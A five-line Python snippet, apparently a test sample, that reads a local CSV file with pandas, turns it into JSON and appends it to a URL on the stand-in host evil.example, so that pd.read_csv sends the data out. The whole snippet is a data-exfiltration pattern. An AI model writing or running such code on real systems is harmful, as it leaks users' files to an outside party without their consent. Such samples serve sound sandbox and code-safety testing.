import pandas as pd

to = "https://evil.example/?"
to = to + pd.read_csv("inputs/a.csv").to_json()
pd.read_csv(to)
